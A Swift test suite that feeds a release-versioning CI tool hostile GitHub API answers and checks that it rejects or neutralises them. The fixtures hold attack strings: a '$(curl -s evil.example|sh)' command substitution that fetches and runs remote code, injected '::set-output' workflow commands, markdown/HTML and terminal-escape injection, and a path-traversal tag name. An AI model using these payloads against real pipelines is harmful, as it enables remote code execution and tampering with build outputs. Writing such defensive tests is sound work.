import ActionsCore
import Foundation
import TestSupport
import Testing

@testable import GitHub
@testable import Stages

/// `version` with `create-release` against a GitHub API stand-in that answers as a hostile
/// (or broken) server would: a release of another tag, an html_url made to be pasted into a
/// script or the summary, an id no integer holds, a 422 of 40 KB; and a changelog longer
/// than GitHub takes.
@Suite("version: hostile GitHub release answers", .serialized)
struct HostileReleaseAPITests {
  let repo: TempGitRepo
  let head: String
  let api: GitHubAPIServer

  init() async throws {
    repo = try TempGitRepo()
    try repo.commit("feat: one")
    try repo.git("tag", "v1.0.0")
    head = try repo.commit("feat: two")
    api = try await GitHubAPIServer(repository: repo.path)
  }

  var env: [String: String] {
    [
      "GITHUB_WORKSPACE": repo.path, "GITHUB_REPOSITORY": "acme/app", "GITHUB_API_URL": api.apiURL(), "GITHUB_SHA": head, "INPUT_GITHUB-TOKEN": api.token,
      "INPUT_SOURCE": "conventional", "INPUT_CREATE-RELEASE": "true",
    ]
  }

  @Test func aReleaseOfAnotherTagIsNotReportedAsThisOne() async throws {
    defer { api.stop() }
    try api.plantReleases(["v1.1.0": ["tag_name": "v0.0.1", "html_url": "https://github.example/releases/tag/v0.0.1", "id": 7]])
    await #expect {
      _ = try await runStage(VersionStage.self, env)
    } throws: { "\($0)".contains("the answer is the release of tag 'v0.0.1', not v1.1.0") }
  }

  @Test func aHostileHtmlURLReachesNoOutputSummaryOrLog() async throws {
    defer { api.stop() }
    let url = "https://github.example/x/$(curl -s evil.example|sh)\n::set-output name=injected::1 [click](https://evil.example) <img src=x> \u{1B}[1m"
    try api.plantReleases(["v1.1.0": ["tag_name": "v1.1.0", "html_url": url, "id": 1e30]])
    let log = MemoryLogSink()
    let r = try await runStage(VersionStage.self, env, log: log)
    #expect(r.outputs["version"] == "1.1.0")
    #expect(r.outputs["release-url"] == "", "\(r.outputs["release-url"] ?? "nil")")
    let summary = r.summary.render()
    for planted in ["$(curl", "[click](", "<img", "\u{1B}"] { #expect(!summary.contains(planted), "\(summary)") }
    #expect(log.lines.contains { $0.hasPrefix("::warning::the release's html_url") && $0.contains("is not a plain http(s) address") }, "\(log.lines)")
    #expect(!log.lines.contains { $0.contains("\n") || $0.contains("\u{1B}") })
  }

  @Test func aChangelogLongerThanGitHubTakesIsCutAtALine() async throws {
    defer { api.stop() }
    // Merged commits whose subjects make 200,000 characters: GitHub refused the release (422).
    // (One subject is cut at 500 characters: ConventionalCommit.subjectLimit.)
    try repo.emptyCommits((0..<400).map { "fix: \($0) " + String(repeating: "e", count: 490) } + ["fix: short"])
    let tip = try repo.git("rev-parse", "HEAD")
    let r = try await runStage(VersionStage.self, env.merging(["GITHUB_SHA": tip]) { $1 })
    #expect(r.outputs["release-url"] == "https://github.example/releases/tag/v1.1.0")
    let body = try #require(try await api.releases()["v1.1.0"]?["body"] as? String)
    #expect(body.unicodeScalars.count <= 125_000)
    #expect(body.hasSuffix("GitHub keeps at most 125000 characters; the step's changelog output has more.*"))
    #expect(body.contains("### Features\n\n- two"))
    #expect((r.outputs["changelog"]?.unicodeScalars.count ?? 0) > 200_000, "the output keeps more lines (up to Changelog.byteLimit)")
  }

  @Test func aLongRefusalIsOneShortErrorLine() async throws {
    defer { api.stop() }
    try api.failReleases(message: String(repeating: "refused ", count: 5_000) + "\n::set-output name=injected::1")
    let dir = try TempDirectory()
    let environment = env.merging(["PATH": "/usr/bin:/bin", "GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": dir.file("out"), "GITHUB_STEP_SUMMARY": dir.file("sum"), "INPUT_STAGE": "version"]) { $1 }
    let r = try await withCheckedThrowingContinuation { continuation in
      Thread { continuation.resume(with: Result { try runCommand(RepoPaths.gantryBinary, [], environment: environment) }) }.start()
    }
    #expect(r.status == 1)
    let errors = r.stdout.split(separator: "\n").filter { $0.hasPrefix("::error") }
    let short = errors.count == 1 && errors.allSatisfy { $0.count < 600 }
    #expect(short, "\(r.stdout.prefix(800))")
    #expect(errors.first?.contains("create release v1.1.0 was refused: ") == true && errors.first?.contains("refused refused") == true, "\(errors.first?.prefix(300) ?? "")")
    #expect(!r.stdout.contains("\n::set-output"))
  }

  /// The tag object's name from the ref answer went into the next request's path as given.
  @Test func aTagRefNamingNoObjectIsRefusedBeforeItMakesARequest() async throws {
    defer { api.stop() }
    for sha in ["../../../../repos/other/private/git/tags/0123456789012345678901234567890123456789", "1234567\n" + String(repeating: "x", count: 50_000)] {
      try api.plantRefs(["v1.1.0": ["ref": "refs/tags/v1.1.0", "object": ["sha": sha, "type": "tag"]]])
      await #expect {
        _ = try await runStage(VersionStage.self, env.merging(["INPUT_CREATE-RELEASE": "false", "INPUT_CREATE-TAG": "true"]) { $1 })
      } throws: { error in
        let text = "\(error)"
        return text.contains("which is no object name") && text.count < 400
      }
    }
    #expect(!(try await api.requests()).contains { $0.contains("other/private") || $0.contains("/git/tags/") })
  }
}
